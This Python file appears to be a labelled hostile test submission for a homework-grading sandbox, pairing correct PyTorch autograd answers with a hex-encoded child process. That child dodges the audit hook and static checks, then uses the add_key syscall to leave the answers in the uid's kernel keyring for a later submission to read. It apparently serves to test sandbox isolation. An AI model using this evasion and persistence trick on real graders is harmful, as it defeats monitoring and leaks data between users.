"""Hostile, first of a pair: correct, and leaves its own source in its uid's kernel keyring.

A child interpreter (out of the audit hook's sight) adds the source as a "user" key to the
user keyring (@u), which the kernel keeps after the uid's last process has ended: the next
submission leased the same uid could read it (reader.py).
"""
import subprocess
import sys

# import ctypes, sys
# libc = ctypes.CDLL(None, use_errno=True)
# libc.syscall.restype = ctypes.c_long
# data = open(sys.argv[1], "rb").read().split(b"# answers\n", 1)[1]  # the answers only
# # add_key("user", "homework-kept", data, len, KEY_SPEC_USER_KEYRING)
# key = libc.syscall(ctypes.c_long(248), b"user", b"homework-kept", data, ctypes.c_size_t(len(data)),
#                    ctypes.c_long(-4))
# print("kept" if key >= 0 else "refused %d" % ctypes.get_errno())
_KEEP = bytes.fromhex(  # the child's code, as hex: the static look would see its ctypes
    "696d706f7274206374797065732c207379730a6c696263203d206374797065732e43444c4c284e6f6e652c207573655f6572726e6f3d54727565290a6c6962632e73797363616c6c2e72657374797065203d206374797065732e635f6c6f6e670a64617461203d206f70656e287379732e617267765b315d2c2022726222292e7265616428292e73706c69742862222320616e73776572735c6e222c2031295b315d2020232074686520616e7377657273206f6e6c790a23206164645f6b6579282275736572222c2022686f6d65776f726b2d6b657074222c20646174612c206c656e2c204b45595f535045435f555345525f4b455952494e47290a6b6579203d206c6962632e73797363616c6c286374797065732e635f6c6f6e6728323438292c20622275736572222c206222686f6d65776f726b2d6b657074222c20646174612c206374797065732e635f73697a655f74286c656e286461746129292c0a202020202020202020202020202020202020206374797065732e635f6c6f6e67282d3429290a7072696e7428226b65707422206966206b6579203e3d203020656c7365202272656675736564202564222025206374797065732e6765745f6572726e6f2829290a"
).decode()
subprocess.run([sys.executable, "-c", _KEEP, __file__], check=False)

# answers
import torch
from torch.autograd import grad


def first_order_grads(x, y):
    x, y = (t.detach().requires_grad_() for t in (x, y))
    return grad(torch.dot(x, y) ** 2, [x, y])


def second_partials(x, y, i):
    x, y = (t.detach().requires_grad_() for t in (x, y))
    gx = grad(torch.dot(x, y) ** 2, x, create_graph=True)[0]
    return tuple(grad(gx[i], [x, y]))


def grads_without_zeroing(x, y, i):
    a, b = first_order_grads(x, y)
    c, d = second_partials(x, y, i)
    return a + c, b + d


def hessian(f, x):
    x = x.detach().requires_grad_()
    g = grad(f(x), x, create_graph=True)[0]
    return torch.stack([grad(g[j], x, retain_graph=True)[0] for j in range(len(x))])


def hvp(f, x, v):
    x = x.detach().requires_grad_()
    g = grad(f(x), x, create_graph=True)[0]
    return grad(g, x, grad_outputs=v)[0]


def gradient_penalty(f, x):
    x = x.detach().requires_grad_()
    g = grad(f(x).sum(), x, create_graph=True)[0]
    return g.pow(2).sum(1).mean()
